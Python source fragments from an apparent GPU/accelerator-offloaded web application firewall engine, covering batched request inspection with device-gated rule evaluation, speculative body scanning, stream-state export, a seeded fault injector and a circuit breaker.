        n = model.warmup(lengths, lanes, block=block)
        t1 = time.monotonic()
        s = self.stats
        s.trace_cache_hits += model.warmup_hits - h0
        s.trace_cache_misses += model.warmup_misses - m0
        s.recompile_total["warmup"] = \
            s.recompile_total.get("warmup", 0) + 1
        # with a persistent cache attached, compile time is what the AOT
        # path actually spent tracing+compiling (0.0 on a fully warm
        # start); without one it stays the warmup wall time
        cache_attrs = {}
        if cache is not None:
            c1 = cache.stats()
            s.compile_seconds_total += \
                c1["compile_seconds"] - c0["compile_seconds"]
            cache_attrs = {
                "compile_cache_hits": c1["hits"] - c0["hits"],
                "compile_cache_misses": c1["misses"] - c0["misses"],
                # did the disk serve EVERY program this pass needed?
                "from_disk": c1["fresh_traces"] == c0["fresh_traces"],
            }
        else:
            s.compile_seconds_total += t1 - t0
        rec = self.trace_recorder
        if rec is not None:
            rec.record_event(
                "recompile", key,
                [("recompile", t0, t1, {"reason": "warmup"})],
                reason="warmup", shapes=n,
                trace_cache_misses=model.warmup_misses - m0,
                trace_cache_hits=model.warmup_hits - h0,
                **cache_attrs)
        return n

    def warmup(self, lengths: tuple[int, ...] = (128, 256),
               lanes: tuple[int, ...] | None = None,
               block: bool = True) -> int:
        """Synchronously pre-trace the current model's (L, N) shape
        buckets. Returns the number of shapes dispatched (0 = no model)."""
        model = self._state[1]
        if model is None:
            return 0
        return self._warmup_model(
            model, "*", lengths,
            lanes if lanes is not None else (LANE_PAD,), block=block)

    def remove_tenant(self, key: str) -> None:
        tenants = dict(self.tenants)
        tenants.pop(key, None)
        self._swap(tenants)

    def tenant_version(self, key: str) -> str | None:
        st = self.tenants.get(key)
        return st.version if st else None

    # -- inspection -------------------------------------------------------
    def _fast_accept_enabled(self, model) -> bool:
        """Live fast-accept switch: the installed plan's ``fast_accept``
        (autotune.plan.Plan) overrides when set, else the engine's own
        (WAF_FAST_ACCEPT / constructor)."""
        plan = getattr(model, "plan", None)
        if plan is not None and getattr(plan, "fast_accept",
                                        None) is not None:
            return bool(plan.fast_accept)
        return self.fast_accept

    def inspect_batch(
        self,
        items: list[tuple[str, HttpRequest, HttpResponse | None]],
        trace_ctxs: "list | None" = None,
    ) -> list[Verdict]:
        """items[i] = (tenant_key, request, response|None); tenants may be
        freely mixed within one batch.

        ``trace_ctxs`` (parallel to items, entries None or a
        runtime/tracing.TraceContext) enables flight-recorder spans.
        Spans are batch-scoped — device rounds serve the whole batch, so
        every traced item gets the same device_issue/device_collect/
        host_phase1/verdict timestamps — and cursor-based: each span
        starts where the previous one ended, so a trace's sequential
        spans never overlap. Host-side only: tracing adds no device op,
        sync, or lock (kernel trace digests are unchanged)."""
        tenants, model = self._state  # one atomic load: consistent pair
        # per-batch profiling decision: one head-sample draw covers every
        # device round this batch issues (screens + all waves)
        prof = self.profiler
        profile = (prof if prof is not None and model is not None
                   and prof.sample_batch() else None)
        live_ctxs = [c for c in (trace_ctxs or ()) if c is not None]
        t_cursor = time.monotonic() if live_ctxs else 0.0

        def mark(span_name: str, **attrs) -> None:
            """Close the [t_cursor, now] interval as one span on every
            traced item and advance the cursor."""
            nonlocal t_cursor
            if not live_ctxs:
                return
            t_now = time.monotonic()
            for c in live_ctxs:
                c.span(span_name, t_cursor, t_now, **attrs)
            t_cursor = t_now
        txs: list[Transaction] = []
        states: list[TenantState] = []
        for key, req, _ in items:
            st = tenants.get(key)
            if st is None:
                raise KeyError(f"unknown tenant {key!r}")
            states.append(st)
            tx = st.waf.new_transaction(req)
            if st.compiled.static_resolved:
                # compiler-proven never-fire rules: pre-close their gates
                # so the host walk skips them without evaluating
                tx.gate_bits = dict.fromkeys(st.compiled.static_resolved,
                                             False)
            txs.append(tx)
        self.stats.requests += len(items)
        self.stats.batches += 1

        # accumulated device bits per tx (a rule's gate closes once every
        # wave its matchers need has been scanned for that tx)
        seen_bits: dict[int, dict[int, bool]] = {}
        waves_done: dict[int, set[int]] = {i: set()
                                           for i in range(len(txs))}
        inflight = 0  # issued-but-uncollected rounds (pipeline depth)

        def build_batch(tx_waves: dict[int, tuple[int, ...]],
                        tx_src: dict[int, Transaction] | None = None):
            """The batch the device rounds scan: (tenant_key, provider,
            active_mids) per item with matchers in the given waves. The
            providers memoize value extraction, so a batch built for the
            wave-0 screen MUST be reused verbatim by the follow-up lane
            round (bits_issue prebuilt=...)."""
            batch = []
            rows = []
            for i, waves in tx_waves.items():
                st = states[i]
                matchers = [m for w in waves for m in st.waves[w]]
                if not matchers:
                    if tx_src is None:
                        waves_done[i].update(waves)
                    continue
                # lazy, memoized-by-variable-spec extraction: the screen
                # needs only each group's value UNION, so eager per-matcher
                # expansion (80x/request) would dominate host time
                src = txs[i] if tx_src is None else tx_src[i]
                batch.append((st.key, _ValueProvider(src),
                              {m.mid for m in matchers}))
                rows.append(i)
            return batch, rows

        def bits_issue(tx_waves: dict[int, tuple[int, ...]],
                       tx_src: dict[int, Transaction] | None = None,
                       prebuilt=None, screens=None, skip_items=None):
            """Issue the device scans for the given waves WITHOUT
            collecting; returns a handle for bits_apply/bits_discard
            (None = nothing dispatched). tx_src overrides which
            transaction values are extracted from (speculative scratch
            txs whose body was processed ahead of the phase-1 walk).
            prebuilt/screens/skip_items thread the wave-0 fast-accept
            state through: the same (batch, rows), the already-collected
            screen results, and the batch positions already resolved."""
            nonlocal inflight
            if model is None:
                for i, waves in tx_waves.items():
                    if tx_src is None:
                        waves_done[i].update(waves)
                return None
            batch, rows = (prebuilt if prebuilt is not None
                           else build_batch(tx_waves, tx_src))
            if not batch:
                return None
            pm = model.match_bits_issue(batch, self.stats,
                                        profile=profile, screens=screens,
                                        skip_items=skip_items)
            inflight += 1
            self.stats.dispatch_rounds += 1
            self.stats.issue_inflight_peak = max(
                self.stats.issue_inflight_peak, inflight)
            return (pm, rows, tx_waves)

        def bits_apply(handle, only: set[int] | None = None) -> None:
            """Collect an issued round and close gates. With ``only``,
            bits are applied just to those txs; the rest of the round's
            lanes are counted as wasted speculative work."""
            nonlocal inflight
            if handle is None:
                return
            pm, rows, tx_waves = handle
            inflight -= 1
            got = model.match_bits_collect(pm)
            for bi, (i, per_mid) in enumerate(zip(rows, got)):
                if only is not None and i not in only:
                    self.stats.speculative_lanes_wasted += \
                        pm.lanes_per_item.get(bi, 0)
                    continue
                tx = txs[i]
                acc = seen_bits.setdefault(i, {})
                acc.update(per_mid)
                waves_done[i].update(tx_waves[i])
                gate = tx.gate_bits if tx.gate_bits is not None else {}
                st = states[i]
                for rid, mids in st.compiled.gate.items():
                    if rid in gate or \
                            st.rule_wave[rid] not in waves_done[i]:
                        continue
                    ok = all(acc.get(m, True) for m in mids)
                    gate[rid] = bool(ok)
                    if not ok:
                        self.stats.gated_rules_skipped += 1
                tx.gate_bits = gate

        def bits_discard(handle) -> None:
            """Drop an issued round without syncing: every lane wasted."""
            nonlocal inflight
            if handle is None:
                return
            pm, _rows, _tx_waves = handle
            inflight -= 1
            self.stats.speculative_lanes_wasted += pm.n_lanes

        def bits_for_round(tx_waves: dict[int, tuple[int, ...]],
                           wave: int | None = None) -> None:
            handle = bits_issue(tx_waves)
            if handle is not None and wave is not None:
                mark("device_issue", wave=wave)
            bits_apply(handle)
            if handle is not None and wave is not None:
                mark("device_collect", wave=wave)

        # round 1: request line + headers — and, for bodyless requests,
        # the body wave too (their ARGS are final before phase 1 runs, so
        # one device round covers both; most GET traffic takes this path)
        has_body = [bool(items[i][1].body) for i in range(len(txs))]

        fast_allowed: set[int] = set()

        def try_fast_allow(idxs) -> None:
            # device-only verdict: every relevant gate closed+False AND
            # every residual predicate False -> no rule can match; skip
            # the host walk entirely. fast_allow_safe (compiler fixpoint)
            # is proven UNDER the all-residuals-False assumption, so the
            # residual_req_rules chain-head predicates must be checked
            # here — any True aborts to the full host walk.
            for i in idxs:
                st, tx = states[i], txs[i]
                if not st.fast_allow_ok or i in fast_allowed:
                    continue
                gate = tx.gate_bits if tx.gate_bits is not None else {}
                if items[i][2] is not None:
                    # response-bearing: phases 3/4 are skipped on the
                    # fast path, so response-phase residuals must not
                    # exist and EVERY gate (incl. response waves) must be
                    # closed False
                    if st.compiled.residual_response:
                        continue
                    n_closed = (len(st.compiled.gate)
                                + len(st.compiled.static_resolved))
                    ok = len(gate) == n_closed and \
                        not any(gate.values())
                else:
                    # request-only: phase-3/4 rules never evaluate, so
                    # only the phase<=2 gates need to be closed False
                    ok = (all(gate.get(rid) is False
                              for rid in st.req_gate_rids)
                          and not any(gate.values()))
                if not ok:
                    continue
                if any(tx._match_rule_targets(r)
                       for r in st.residual_req_rules):
                    # a host-only predicate fired: the fixpoint's
                    # assumption does not hold for this item
                    self.stats.fast_path_residual_aborts += 1
                    continue
                fast_allowed.add(i)
                self.stats.fast_path_allows += 1

        # wave 0: screen-first fast accept (WAF_FAST_ACCEPT / plan
        # rider). Issue ONLY the union screens for the round-1 waves,
        # collect them, and resolve request-only items whose every
        # wave<=2 gate is screen-proven False — exactly the items the
        # full-scan path's try_fast_allow would accept after wave 1, so
        # verdicts (and every skipped phase) are bit-identical by
        # construction; the screen's no-false-negative contract
        # (compiler/screen.py) carries the proof. Surviving items reuse
        # the same screen results in the lane round below (no screen
        # program runs twice), and a wave-0 device fault propagates
        # exactly like a wave-1 fault (host fallback, no verdict issued).
        h1_waves = {
            i: ((1,) if has_body[i] else (1, 2))
            for i in range(len(txs))
        }
        h1_pre = None
        h1_screens = None
        h1_skip: set[int] | None = None
        if model is not None and self._fast_accept_enabled(model):
            h1_pre = build_batch(h1_waves)
            batch0, rows0 = h1_pre
            if batch0:
                ps = model.screen_bits_issue(batch0, self.stats,
                                             profile=profile)
                mark("device_issue", wave=0)
                mids_false = model.screen_bits_collect(ps,
                                                       profile=profile)
                mark("device_collect", wave=0)
                h1_screens = ps
                skip: set[int] = set()
                for bi, i in enumerate(rows0):
                    st, tx = states[i], txs[i]
                    if (items[i][2] is not None or has_body[i]
                            or not st.screen_accept_ok):
                        continue
                    proven = mids_false[bi]
                    if not all(m in proven
                               for rid in st.screen_gate_rids
                               for m in st.compiled.gate[rid]):
                        continue
                    if any(tx._match_rule_targets(r)
                           for r in st.residual_req_rules):
                        # host-only predicate may fire: fall through to
                        # the full path, whose try_fast_allow re-checks
                        # and counts the abort exactly as always-full-
                        # scan does (no stat here — parity)
                        continue
                    skip.add(bi)
                    fast_allowed.add(i)
                    self.stats.fast_path_allows += 1
                    self.stats.screen_accepted += 1
                if skip:
                    h1_skip = skip
                    mark("fast_accept", accepted=len(skip))

        h1 = bits_issue(h1_waves, prebuilt=h1_pre, screens=h1_screens,
                        skip_items=h1_skip)

        # speculative wave 2: issue the body scans BEFORE collecting
        # wave 1 or walking phase 1, so the device chews on them while
        # the host walks rules. The speculation assumes phase 1 does not
        # interrupt, set ctl:requestBodyProcessor, or allow the request —
        # value extraction depends only on (request, config, processor,
        # allow scope), so when those hold the scratch-extracted values
        # are bit-identical to the real round-2 extraction.
        spec_handle = None
        spec_txs: dict[int, Transaction] = {}
        if not self.sync_dispatch and model is not None:
            for i in range(len(txs)):
                st = states[i]
                if not has_body[i] or not st.waves[2]:
                    continue
                if len(items[i][1].body) > self.SPECULATE_BODY_MAX:
                    continue
                stx = st.waf.new_transaction(items[i][1])
                stx.process_request_body()
                if stx.interruption is not None:
                    continue  # body-limit reject: the real walk interrupts
                spec_txs[i] = stx
            if spec_txs:
                spec_handle = bits_issue({i: (2,) for i in spec_txs},
                                         tx_src=spec_txs)
                if spec_handle is not None:
                    self.stats.speculative_waves += 1

        # issue span covers host packing + kernel launches for wave 1
        # and the speculative wave (launches are async, ~3ms each)
        mark("device_issue", wave=1, speculative=spec_handle is not None)
        bits_apply(h1)
        mark("device_collect", wave=1)
        try_fast_allow(i for i in range(len(txs)) if not has_body[i])
        for i, tx in enumerate(txs):
            if i not in fast_allowed:
                tx.eval_phase(1)
        mark("host_phase1", fast_allows=len(fast_allowed))

        # round 2: bodies (after phase-1 ctl ran), only where one exists
        live = [i for i in range(len(txs))
                if txs[i].interruption is None]
        for i in live:
            txs[i].process_request_body()
        live = [i for i in live if txs[i].interruption is None]
        if spec_handle is not None:
            # speculation is valid only where the phase-1 walk left body
            # processing exactly as the scratch tx assumed
            live_set = set(live)
            spec_valid = {
                i for i in spec_txs
                if i in live_set
                and txs[i].body_processor is None
                and txs[i].allow_scope not in ("tx", "request")
                and 2 not in waves_done[i]
            }
            if spec_valid:
                bits_apply(spec_handle, only=spec_valid)
                mark("device_collect", wave=2, speculative=True)
                self.stats.speculative_waves_used += 1
            else:
                bits_discard(spec_handle)
        bits_for_round({i: (2,) for i in live
                        if has_body[i] and 2 not in waves_done[i]},
                       wave=2)
        try_fast_allow(live)
        for i in live:
            if i not in fast_allowed:
                txs[i].eval_phase(2)

        # round 3: response phases
        resp_live = [i for i in range(len(txs))
                     if items[i][2] is not None
                     and txs[i].interruption is None
                     # fast-allowed txs have EVERY gate closed+False
                     # (impossible when wave-3/4 matchers exist), so the
                     # response walk provably cannot match — skip it
                     and i not in fast_allowed]
        if resp_live:
            for i in resp_live:
                txs[i].process_response(items[i][2])
            bits_for_round({i: (3,) for i in resp_live}, wave=3)
            for i in resp_live:
                txs[i].eval_phase(3)
            body_live = [i for i in resp_live
                         if txs[i].interruption is None]
            for i in body_live:
                txs[i].process_response_body()
            bits_for_round({i: (4,) for i in body_live}, wave=4)
            for i in body_live:
                txs[i].eval_phase(4)
        for i, tx in enumerate(txs):
            if i not in fast_allowed:
                tx.eval_phase_5_logging()
        verdicts = [st.waf._verdict(tx) for st, tx in zip(states, txs)]
        # residual host walks (phases 2-5) between the last device
        # collect and here fold into the terminal verdict span
        mark("verdict", batch=len(items))
        return verdicts

    def inspect(self, key: str, request: HttpRequest,
                response: HttpResponse | None = None,
                trace_ctx=None) -> Verdict:
        return self.inspect_batch(
            [(key, request, response)],
            trace_ctxs=None if trace_ctx is None else [trace_ctx])[0]

    def inspect_host(self, key: str, request: HttpRequest,
                     response: HttpResponse | None = None) -> Verdict:
        """Device-free exact path: run the tenant's ReferenceWaf directly.

        This IS the engine verdicts are defined against (device bits only
        ever gate it — DEVELOPMENT.md "verdict-parity contract"), so the
        circuit-breaker fallback stays bit-exact, including audit and
        interruption semantics. It never touches the device and is immune
        to injected device faults."""
        st = self.tenants.get(key)
        if st is None:
            raise KeyError(f"unknown tenant {key!r}")
        return st.waf.inspect(request, response)

    # -- streaming (carried chunk state; extproc/batcher StreamRegistry) --
    def stream_epoch(self) -> int:
        """Opaque epoch token open streams pin to — bumped by every
        tenant swap. ShardedEngine serves the same contract with its
        placement epoch: the chunks of one stream must never span
        incompatible tables."""
        return self.stats.reload_epoch

    def stream_open(self, key: str):
        """Open a carried-state chunk scan for ``key``; None when no
        model is installed or the tenant has no chunk-streamable lanes
        (callers then run the stream buffer-only, verdict at end)."""
        tenants, model = self._state
        if key not in tenants:
            raise KeyError(f"unknown tenant {key!r}")
        if model is None:
            return None
        scan = model.stream_open(key)
        return scan if scan.lanes else None

    def stream_scan(self, scan, data: bytes) -> set[int]:
        """Advance an open stream's carried lanes by one chunk; returns
        newly-accepting mids (the early-block trigger). Raises
        StaleStreamState after a mid-stream hot reload — callers drop
        the carry and keep buffering (verdicts are unaffected; the
        trigger never decides them)."""
        if scan is None:
            return set()
        if self.fault is not None:
            self.fault.check("stream-scan-failure")
            self.fault.check("device-exception")
        model = self._state[1]
        if model is not scan.model:
            raise StaleStreamState("model swapped mid-stream")
        return model.stream_step(scan, data, self.stats)

    def export_stream_state(self, scan) -> "dict | None":
        """Serialize an open carried chunk scan so a successor engine
        can resume it (graceful drain, extproc/batcher
        ``StreamRegistry.export_streams``). The record is epoch- and
        version-stamped and carries every lane's host-side state vector
        plus the row/mid/transform layout it was built against, so
        import can prove the tables still match. None in, None out
        (buffer-only streams have nothing to carry)."""
        if scan is None:
            return None
        lanes = []
        for gi, lm, states, _accepts, mids in scan.lanes:
            g = scan.model.groups[gi]
            lanes.append({
                "gi": int(gi),
                "transforms": list(g.transforms),
                "rows": [int(x) for x in lm],
                "mids": list(mids),
                "states": [int(x) for x in states],
            })
        return {
            "epoch": self.stream_epoch(),
            "tenant": scan.tenant,
            "version": self.tenant_version(scan.tenant),
            "first": bool(scan.first),
            "chunks": int(scan.chunks),
            "hits": sorted(scan.hits),
            "lanes": lanes,
        }

    def import_stream_state(self, key: str, state: "dict | None"):
        """Rebuild a carried scan from ``export_stream_state`` output
        against the CURRENTLY installed tables. Refuses with
        StaleStreamState when the stream epoch, tenant version, or lane
        layout (rows/mids/transforms per group) differs — resuming a
        state vector across incompatible tables would be unsound.
        Returns a live scan that continues bit-identically; None for
        buffer-only records."""
        if state is None:
            return None
        if state.get("tenant") not in (None, key):
            raise StaleStreamState(
                f"import refused: record is for tenant "
                f"{state.get('tenant')!r}, not {key!r}")
        if state.get("epoch") != self.stream_epoch():
            raise StaleStreamState(
                f"import refused: exported at stream epoch "
                f"{state.get('epoch')}, engine is at {self.stream_epoch()}")
        if state.get("version") != self.tenant_version(key):
            raise StaleStreamState(
                f"import refused: exported against ruleset version "
                f"{state.get('version')!r}, engine has "
                f"{self.tenant_version(key)!r}")
        scan = self.stream_open(key)
        if scan is None:
            raise StaleStreamState(
                "import refused: tenant has no chunk-streamable lanes "
                "on this engine")
        by_gi = {rec["gi"]: rec for rec in state.get("lanes", ())}
        for entry in scan.lanes:
            gi, lm, _states, _accepts, mids = entry
            rec = by_gi.pop(gi, None)
            g = scan.model.groups[gi]
            if (rec is None
                    or rec.get("mids") != list(mids)
                    or rec.get("rows") != [int(x) for x in lm]
                    or rec.get("transforms") != list(g.transforms)
                    or len(rec.get("states", ())) != int(lm.shape[0])):
                raise StaleStreamState(
                    "import refused: carried lane layout does not match "
                    "the installed tables")
            entry[2] = np.asarray(rec["states"], dtype=np.int32)
        if by_gi:
            raise StaleStreamState(
                "import refused: carried lane layout does not match "
                "the installed tables")
        scan.first = bool(state.get("first", False))
        scan.chunks = int(state.get("chunks", 0))
        scan.hits = set(state.get("hits", ()))
        return scan
