"""Degradation-aware resilience primitives for the data plane.

The reference operator encodes its failure contract declaratively —
per-Engine ``failurePolicy`` (reference: engine_types.go:153-166) and
exponential reconcile backoff — but its data plane has no runtime story:
a failing WASM VM just fails. The trn data plane replaces the in-proxy
interpreter with a remote accelerator, which adds real failure modes
(device resets, compile stalls, tunnel hiccups), so the runtime needs the
same degrade-don't-collapse behavior the control plane already has:

- ``CircuitBreaker``: consecutive device errors or per-batch deadline
  overruns trip it OPEN; while open, batches are served entirely by the
  bit-exact host ``ReferenceWaf`` path (verdicts are unchanged by
  construction — the device only ever *gates* the host engine, see
  DEVELOPMENT.md "verdict-parity contract"). Half-open probes with
  exponential backoff re-admit device waves.
- ``FaultInjector``: deterministic, seeded chaos hooks threaded through
  ``CombinedModel`` (device-exception, device-stall), ``set_tenant``
  (compile-failure), and the ruleset poller (cache-fetch-failure), so
  the whole degradation machine is testable on CPU in tier-1
  (``tests/test_resilience.py``).
- Health states exported through ``Metrics``/``InspectionServer``:
  HEALTHY (device serving) -> DEGRADED (breaker open, host-only) ->
  SHEDDING (admission queue saturated, failure-policy verdicts).
"""

from __future__ import annotations

import logging
import random
import threading
import time

log = logging.getLogger("resilience")

# -- health state machine (exported via Metrics.prometheus()/snapshot()) ----
HEALTHY = "healthy"
DEGRADED = "degraded"  # breaker not closed: device bypassed, host-only
SHEDDING = "shedding"  # admission queue saturated: failure-policy verdicts
HEALTH_STATES = (HEALTHY, DEGRADED, SHEDDING)
# numeric codes for the prometheus gauges (waf_health_state)
HEALTH_CODE = {HEALTHY: 0, DEGRADED: 1, SHEDDING: 2}


FAULT_KINDS = (
    "device-exception",   # match_bits_issue raises InjectedFault
    "device-stall",       # match_bits_issue sleeps stall_s (deadline overrun)
    "device-slow",        # match_bits_collect sleeps a seeded 0.5x-2x slow_s
    "compile-failure",    # set_tenant(ruleset_text=...) raises
    "cache-fetch-failure",  # RuleSetPoller.sync fetch raises
    "stream-scan-failure",  # stream_scan (mid-stream chunk trigger) raises
    "cache-read-failure",   # CompileCache.load raises (unreadable entry)
    "cache-write-failure",  # CompileCache.store raises (unwritable dir)
    # -- router-side kinds (fleet/): pod-scope chaos, checked by the
    # fleet router / health prober rather than the engine hot path
    "pod-kill",             # Pod dispatch raises PodUnavailable (crash)
    "pod-wedge",            # Pod dispatch stalls stall_s (wedged stack)
    "probe-timeout",        # health probe raises (readyz/healthz lost)
)


class InjectedFault(RuntimeError):
    """Raised by FaultInjector.check — callers treat it exactly like the
    real failure it simulates (device error, compile error, fetch error)."""

    def __init__(self, kind: str, n: int) -> None:
        super().__init__(f"injected fault: {kind} (#{n})")
        self.kind = kind


class FaultInjector:
    """Deterministic, seeded fault injection.

    Each fault kind draws from its OWN ``random.Random(f"{seed}:{kind}")``
    stream, so the fire/no-fire sequence for one kind is independent of
    how often other kinds are checked — the injection schedule is a pure
    function of (seed, per-kind check count), reproducible across runs
    and thread interleavings that preserve per-kind check order.

    Configure via constructor or env ``WAF_FAULT_INJECT``, e.g.::

        WAF_FAULT_INJECT="device-exception=0.5,device-stall=0.1,seed=42,stall_ms=80"
    """

    def __init__(self, seed: int = 0,
                 rates: dict[str, float] | None = None,
                 stall_s: float = 0.05,
                 slow_s: float = 0.02) -> None:
        for kind in (rates or {}):
            if kind not in FAULT_KINDS:
                raise ValueError(
                    f"unknown fault kind {kind!r}; valid: {FAULT_KINDS}")
        self.seed = seed
        self.rates: dict[str, float] = dict.fromkeys(FAULT_KINDS, 0.0)
        self.rates.update(rates or {})
        self.stall_s = stall_s
        self.slow_s = slow_s
        self._rngs = {k: random.Random(f"{seed}:{k}") for k in FAULT_KINDS}
        self.draws: dict[str, int] = dict.fromkeys(FAULT_KINDS, 0)
        self.fired: dict[str, int] = dict.fromkeys(FAULT_KINDS, 0)
        self._lock = threading.Lock()

    @classmethod
    def from_env(cls, spec: str | None = None) -> "FaultInjector | None":
        """Parse WAF_FAULT_INJECT; None when unset/empty (no injection).

        Follows the config/env.py degradation policy: malformed items
        never raise at engine construction. Non-numeric, negative, NaN
        or >1 rates degrade to 0.0; malformed seed/stall_ms/slow_ms keep
        their defaults; unknown kinds are dropped. One warning lists
        every degraded item.
        """
        if spec is None:
            from ..config import env as envcfg
            spec = envcfg.get_str("WAF_FAULT_INJECT")
        spec = spec.strip()
        if not spec:
            return None
        seed = 0
        stall_s = 0.05
        slow_s = 0.02
        rates: dict[str, float] = {}
        bad: list[str] = []
        for item in spec.split(","):
            item = item.strip()
            if not item:
                continue
            key, _, val = item.partition("=")
            key = key.strip()
            val = val.strip()
            if key == "seed":
                try:
                    seed = int(val)
                except ValueError:
                    bad.append(item)
            elif key in ("stall_ms", "slow_ms"):
                try:
                    ms = float(val)
                except ValueError:
                    ms = -1.0
                if not 0.0 <= ms < float("inf"):
                    bad.append(item)
                elif key == "stall_ms":
                    stall_s = ms / 1000.0
                else:
                    slow_s = ms / 1000.0
            elif key not in FAULT_KINDS:
                bad.append(item)
            else:
                try:
                    rate = float(val)
                except ValueError:
                    rate = -1.0
                if not 0.0 <= rate <= 1.0:  # False for NaN too
                    bad.append(item)
                    rate = 0.0
                rates[key] = rate
        if bad:
            log.warning(
                "WAF_FAULT_INJECT: degraded malformed item(s) %s to safe "
                "defaults (rates->0.0, unknown kinds dropped); valid "
                "kinds: %s", ", ".join(repr(b) for b in bad), FAULT_KINDS)
        return cls(seed=seed, rates=rates, stall_s=stall_s, slow_s=slow_s)

    def set_rate(self, kind: str, rate: float) -> None:
        if kind not in FAULT_KINDS:
            raise ValueError(f"unknown fault kind {kind!r}")
        with self._lock:
            self.rates[kind] = rate

    def should_fire(self, kind: str) -> bool:
        """One deterministic draw from the kind's stream."""
        with self._lock:
            self.draws[kind] += 1
            fire = self._rngs[kind].random() < self.rates[kind]
            if fire:
                self.fired[kind] += 1
            return fire

    def slow_delay(self) -> float:
        """Seeded tail-latency magnitude for a fired device-slow check:
        uniform 0.5x-2x ``slow_s``, drawn from the kind's own stream so
        the inflation sequence is as replayable as the fire schedule."""
        with self._lock:
            u = self._rngs["device-slow"].random()
        return self.slow_s * (0.5 + 1.5 * u)

    def check(self, kind: str) -> None:
        """Draw; on fire, stall/slow kinds sleep and the rest raise
        InjectedFault. device-stall blocks issue for a fixed stall_s (a
        wedged device, deadline overruns); device-slow inflates the
        collect sync by a seeded 0.5x-2x slow_s (tail latency, not an
        outage — verdicts still land)."""
        if not self.should_fire(kind):
            return
        if kind in ("device-stall", "pod-wedge"):
            # pod-wedge stalls a fleet pod's dispatch the same way
            # device-stall wedges the device engine
            time.sleep(self.stall_s)
            return
        if kind == "device-slow":
            time.sleep(self.slow_delay())
            return
        raise InjectedFault(kind, self.fired[kind])


class CircuitBreaker:
    """Device-admission breaker: CLOSED -> OPEN -> HALF_OPEN -> CLOSED.

    ``failure_threshold`` consecutive failures (device exceptions or
    per-batch deadline overruns, as reported by the caller) trip it OPEN;
    ``allow()`` then refuses device dispatch until ``base_backoff_s``
    elapses, after which single probes are admitted (HALF_OPEN, throttled
    to one per base backoff). A probe success closes the breaker and
    resets the backoff; a probe failure re-opens it with the backoff
    doubled up to ``max_backoff_s`` — the data-plane mirror of the
    reconciler's exponential failure rate limiter
    (controlplane/controllers._RateLimiter, 1s -> 60s).

    ``clock`` is injectable for deterministic tests.
    """

    CLOSED = "closed"
    HALF_OPEN = "half-open"
    OPEN = "open"
    # numeric codes for the prometheus gauge (waf_breaker_state)
    STATE_CODE = {CLOSED: 0, HALF_OPEN: 1, OPEN: 2}

    def __init__(self, failure_threshold: int = 5,
                 base_backoff_s: float = 0.5,
                 max_backoff_s: float = 30.0,
                 clock=time.monotonic) -> None:
        self.failure_threshold = max(1, failure_threshold)
        self.base_backoff_s = base_backoff_s
        self.max_backoff_s = max_backoff_s
        self._clock = clock
        self._lock = threading.Lock()
        self._state = self.CLOSED
        self._failures = 0  # consecutive
        self._backoff_s = base_backoff_s
        self._retry_at = 0.0
        self.open_total = 0  # trips CLOSED/HALF_OPEN -> OPEN
        self.probe_total = 0  # half-open probes admitted
        self.recoveries_total = 0  # HALF_OPEN -> CLOSED

    @property
    def state(self) -> str:
        with self._lock:
            self._tick_locked()
            return self._state

    def _tick_locked(self) -> None:
        if self._state == self.OPEN and self._clock() >= self._retry_at:
            self._state = self.HALF_OPEN

    def allow(self) -> bool:
        """May the caller dispatch to the device right now? In HALF_OPEN,
        admits one probe per base-backoff window."""
        with self._lock:
            if self._state == self.CLOSED:
                return True
            now = self._clock()
            if now < self._retry_at:
                return False
            self._state = self.HALF_OPEN
            # throttle: the next probe waits another base window, so a
            # still-broken device sees O(1) probes per window, not a
            # thundering herd of queued batches
            self._retry_at = now + self.base_backoff_s
            self.probe_total += 1
            return True

    def record_success(self) -> None:
        with self._lock:
            self._failures = 0
            if self._state != self.CLOSED:
                self._state = self.CLOSED
                self._backoff_s = self.base_backoff_s
                self.recoveries_total += 1

    def record_failure(self) -> None:
        with self._lock:
            self._failures += 1
            if self._state == self.HALF_OPEN or (
                    self._state == self.CLOSED
                    and self._failures >= self.failure_threshold):
                self._state = self.OPEN
                self._retry_at = self._clock() + self._backoff_s
                self._backoff_s = min(self._backoff_s * 2,
                                      self.max_backoff_s)
                self.open_total += 1

    def snapshot(self) -> dict:
        with self._lock:
            self._tick_locked()
            return {
                "state": self._state,
                "consecutive_failures": self._failures,
                "open_total": self.open_total,
                "probe_total": self.probe_total,
                "recoveries_total": self.recoveries_total,
                "backoff_s": self._backoff_s,
            }
