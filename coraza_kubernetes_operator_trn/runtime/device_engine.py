"""DeviceWafEngine — batched inspection with exact verdict parity.

Per batch, per phase wave:

1. expand each device matcher's targets against each transaction (host —
   same expansion code the CPU engine uses, so values can never diverge);
2. one device dispatch per transform-chain group -> matcher bits;
3. AND bits into per-rule candidate gates;
4. run the exact CPU engine for the phase with gated rules skipped.

Because every matcher has zero false negatives for its predicate, a False
gate proves the rule cannot match; candidates are re-evaluated exactly, so
verdicts are bit-compatible with ReferenceWaf by construction (differential
tests enforce it). Clean traffic — the overwhelming majority — touches the
host engine only for always-candidate rules (numeric/TX bookkeeping).

Phase waves mirror the proxy reality: phase-1 values (URI/headers) exist
before the body arrives; body-derived targets are packed only after host
phase 1 ran (so ctl:requestBodyProcessor is honored exactly).
"""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np

from ..compiler.compile import CompiledRuleSet, Matcher, compile_ruleset
from ..engine.reference import ReferenceWaf, Verdict
from ..engine.transaction import HttpRequest, HttpResponse, Transaction
from ..models.waf_model import WafModel
from ..ops.packing import extract_matcher_values

# collections only available once the request body was processed
_BODY_COLLECTIONS = {
    "ARGS", "ARGS_POST", "ARGS_NAMES", "ARGS_POST_NAMES", "REQUEST_BODY",
    "FILES", "FILES_NAMES", "FILES_SIZES", "MULTIPART_PART_HEADERS",
    "ARGS_COMBINED_SIZE", "FILES_COMBINED_SIZE", "XML", "JSON",
}
_RESPONSE_COLLECTIONS = {
    "RESPONSE_BODY", "RESPONSE_HEADERS", "RESPONSE_STATUS",
    "RESPONSE_PROTOCOL", "RESPONSE_CONTENT_TYPE", "RESPONSE_CONTENT_LENGTH",
}


def _matcher_wave(m: Matcher) -> int:
    """Earliest wave at which all the matcher's targets are populated:
    1 = request line/headers, 2 = +body, 3 = +response."""
    wave = 1
    for v in m.variables:
        if v.collection in _RESPONSE_COLLECTIONS:
            wave = max(wave, 3)
        elif v.collection in _BODY_COLLECTIONS:
            wave = max(wave, 2)
    return wave


@dataclass
class EngineStats:
    requests: int = 0
    device_lanes: int = 0
    candidates: int = 0
    gated_rules_skipped: int = 0

    def as_dict(self) -> dict:
        return self.__dict__.copy()


class DeviceWafEngine:
    """The trn data-plane engine behind the ext_proc sidecar."""

